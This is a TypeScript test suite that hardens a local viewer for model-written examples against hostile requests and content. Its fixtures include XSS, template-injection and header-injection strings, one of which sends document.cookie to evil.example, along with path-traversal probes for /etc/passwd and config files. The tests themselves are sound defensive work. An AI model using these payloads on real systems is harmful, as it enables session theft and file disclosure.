import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { Example } from "../state/records/example.js";
import { acceptedRound, exampleOf, roundStarted, started } from "./hand-made-events.js";
import { type Raw, raw } from "./raw-request.js";
import { temporaryFolders } from "./temporary.js";
import { Watching } from "./watching.js";

const newFolder = temporaryFolders();

/** What a model may write against those who display it. */
const HOSTILE = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "</script><script>fetch('https://evil.example/'+document.cookie)</script>",
  "<svg/onload=alert`1`>",
  "javascript:alert(1)",
  "[click](javascript:alert(1)) ![x](https://evil.example/?q=1)",
  "{{constructor.constructor('return process')()}} #{process.env} <%= 7*7 %>",
  "line\u2028separator\u2029 nul\u0000 bell\u0007 \u202Egnp.exe ]]> --> \\u003c",
  "data: 1\n\nevent: round\ndata: {}\n\n",
  "\r\nSet-Cookie: a=b\r\n\r\n<html>",
  "😀 \ufffe \ufeff ＜script＞",
];

let base: string;
let folder: string;
let watching: Watching;

/** A finished campaign, made by hand, whose texts are hostile. */
beforeAll(async () => {
  base = newFolder();
  folder = join(base, "campaign");
  await mkdir(folder);
  const match = { type: "match.started", at: started.at, match: "m1", roles: { attacker: "ada", defender: "ben" } };
  const rounds = HOSTILE.flatMap((text, index) => {
    const round = `m1r${index + 1}`;
    const settled = acceptedRound(round);
    const { challenge } = settled.result;
    const hostile = { ...exampleOf(round), question: text, explanation: text, topic: text };
    const result = { ...settled.result, reason: text, challenge: challenge && { ...challenge, question: text } };
    return [roundStarted({ round }), { ...settled, result, example: hostile }];
  });
  const lines = [started, match, ...rounds].map((event) => `${JSON.stringify(event)}\n`);
  await writeFile(join(folder, "events.jsonl"), lines.join(""));
  const mcp = { secrets: { command: "serve", args: ["--key", "hunter2"] } };
  await writeFile(join(folder, "config.yaml"), JSON.stringify({ target: 20, mcp }));
  watching = await Watching.start(folder);
});
afterAll(async () => {
  await watching.stop();
});

const json = { "content-type": "application/json" };
const REVIEW = "/api/examples/id-m1r1/review";

describe("a request for another host", () => {
  it("is refused whatever it asks for: a foreign name may have been bound to us", async () => {
    const { port } = new URL(watching.url);
    const foreign = [
      "evil.example",
      `evil.example:${port}`,
      "127.0.0.1",
      "127.0.0.1:1",
      `127.0.0.1.evil.example:${port}`,
    ];
    for (const host of foreign) {
      for (const path of ["/", "/api/campaign", "/api/stream"]) {
        const refused = await raw(watching, { path, headers: { host } });
        expect(refused.status, `${host} ${path}`).toBe(403);
        expect(JSON.parse(refused.body)).toMatchObject({ error: { code: "REQUEST_REFUSED" } });
      }
    }
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`]) {
      expect((await raw(watching, { headers: { host } })).status, host).toBe(200);
    }
  });
});

describe("a write", () => {
  const write = (headers: Record<string, string>, more: Raw = {}) =>
    raw(watching, { method: "POST", path: REVIEW, body: '{"decision":"drop"}', headers, ...more });

  it("of another page, or of no page, is refused", async () => {
    const { port } = new URL(watching.url);
    const foreign = [
      "https://evil.example",
      "null",
      `http://127.0.0.1:${Number(port) + 1}`,
      `https://127.0.0.1:${port}`,
    ];
    for (const origin of foreign) expect((await write({ ...json, origin })).status, origin).toBe(403);
    expect((await write(json)).status).toBe(403);
    // The page is compared with our names, not with the request's target: its sender writes that.
    const target = { path: `http://evil.example${REVIEW}` };
    const asked = { ...json, host: `127.0.0.1:${port}`, origin: "http://evil.example" };
    expect((await write(asked, target)).status).toBe(403);
    // Of one name of ours to another: to a browser they are two sites.
    expect((await write({ ...json, origin: `http://localhost:${port}` })).status).toBe(403);
  });

  it("that is not JSON is refused: a form of another page could send it", async () => {
    const { origin } = watching;
    for (const type of [
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "text/json",
    ]) {
      expect((await write({ origin, "content-type": type })).status, type).toBe(415);
    }
    expect((await write({ origin })).status).toBe(415);
    expect((await write({ origin, ...json }, { body: "{" })).status).toBe(400);
    expect((await write({ origin, ...json }, { body: "" })).status).toBe(400);
    expect((await write({ origin, ...json }, { body: '{"decision":"burn"}' })).status).toBe(422);
    expect((await write({ origin, ...json }, { body: '{"__proto__":{"decision":"drop"}}' })).status).toBe(422);
  });

  it("that is too large is refused, with its length announced or not", async () => {
    const { origin } = watching;
    const note = "x".repeat(1 << 21);
    const body = JSON.stringify({ note });
    expect((await watching.post("examples/id-m1r1/review", { note })).status).toBe(413);
    expect((await write({ origin, ...json, "transfer-encoding": "chunked" }, { body })).status).toBe(413);
  });

  it("by any other method is refused from outside, and does nothing", async () => {
    for (const method of ["PUT", "PATCH", "DELETE"]) {
      expect((await raw(watching, { method, path: REVIEW, headers: json, body: "{}" })).status, method).toBe(403);
      const own = { ...json, origin: watching.origin };
      expect((await raw(watching, { method, path: REVIEW, headers: own, body: "{}" })).status, method).toBe(404);
    }
    const asked = { origin: "https://evil.example", "access-control-request-method": "POST" };
    const preflight = await raw(watching, { method: "OPTIONS", path: REVIEW, headers: asked });
    expect(preflight.status).toBe(403);
    expect(preflight.headers).not.toHaveProperty("access-control-allow-origin");
  });

  it("of our own page is heard; nothing of what was refused was", async () => {
    const before = JSON.parse((await raw(watching, { path: "/api/examples" })).body);
    expect(before[0].review).toEqual({ decision: null, note: "", reasons: [], by: {} });
    expect((await write({ ...json, origin: watching.origin })).status).toBe(200);
    const charset = { "content-type": "Application/JSON; charset=utf-8" };
    expect((await write({ ...charset, origin: watching.origin }, { body: '{"decision":"keep"}' })).status).toBe(200);
  });
});

describe("an answer", () => {
  it("carries headers that keep a browser from running, framing or guessing anything, errors too", async () => {
    for (const path of ["/", "/api/campaign", "/api/examples", "/nothing", "/api/rounds/none"]) {
      const { headers } = await raw(watching, { path });
      expect(headers, path).toMatchObject({
        "x-content-type-options": "nosniff",
        "x-frame-options": "DENY",
        "referrer-policy": "no-referrer",
        "cross-origin-resource-policy": "same-origin",
        "cross-origin-opener-policy": "same-origin",
      });
      const policy = String(headers["content-security-policy"]);
      expect(policy).toMatch(/^default-src 'self';/);
      for (const never of ["script-src", "unsafe-eval", "https:", "*"]) expect(policy).not.toContain(never);
      for (const none of ["object-src", "base-uri", "form-action", "frame-ancestors"]) {
        expect(policy).toContain(`${none} 'none'`);
      }
      expect(headers).not.toHaveProperty("access-control-allow-origin");
    }
  });

  it("holds nothing from outside of the page's folder", async () => {
    const ways = [
      "/../package.json",
      "/..%2f..%2fpackage.json",
      "/%2e%2e/%2e%2e/package.json",
      "/....//....//package.json",
      "/..%5c..%5cpackage.json",
      "/%252e%252e%252fpackage.json",
      "//etc/passwd",
      "/etc/passwd",
      "/file:///etc/passwd",
      "/index.html%00.js",
      "/server/serve.js",
      "/api/rounds/..%2f..%2fconfig.yaml",
      "/api/rounds/__proto__",
      "/api/matches/constructor",
    ];
    for (const path of ways) {
      const { status, body } = await raw(watching, { path });
      expect(status, path).toBe(404);
      expect(JSON.parse(body), path).toMatchObject({ error: { code: "NOT_FOUND" } });
    }
    // No address at all: refused before our own code sees it.
    expect(await raw(watching, { path: "/..\\..\\package.json" })).toMatchObject({ status: 400, body: "" });
  });

  it("gives hostile texts back as JSON, untouched, and one message for each in the stream", async () => {
    const { headers, body } = await raw(watching, { path: "/api/examples" });
    expect(headers["content-type"]).toBe("application/json");
    const rows = z.array(z.object({ example: Example })).parse(JSON.parse(body));
    expect(rows.map(({ example }) => example.question)).toEqual(HOSTILE);
    expect(rows.map(({ example }) => example.topic)).toEqual(HOSTILE);
    const rounds = await watching.get("rounds");
    expect(rounds.body).toMatchObject(HOSTILE.map((reason) => ({ reason, question: reason.slice(0, 200) })));
    const heard = await watching.listen("stream?since=0", ({ event }) => event === "changed");
    expect(heard.map(({ event }) => event)).toEqual([...HOSTILE.map(() => "round"), "changed"]);
    expect(heard.slice(0, -1).map(({ data }) => data)).toMatchObject(HOSTILE.map((reason) => ({ reason })));
    const hostile = { decision: "drop", note: HOSTILE.join("\n") };
    const { body: reviewed } = await watching.post("examples/id-m1r2/review", hostile);
    expect(reviewed).toMatchObject({ review: hostile });
  });

  it("holds no arguments of servers, which may be secrets, and no path of the machine", async () => {
    const { body } = await raw(watching, {});
    for (const secret of ["hunter2", base]) expect(body).not.toContain(secret);
  });
});
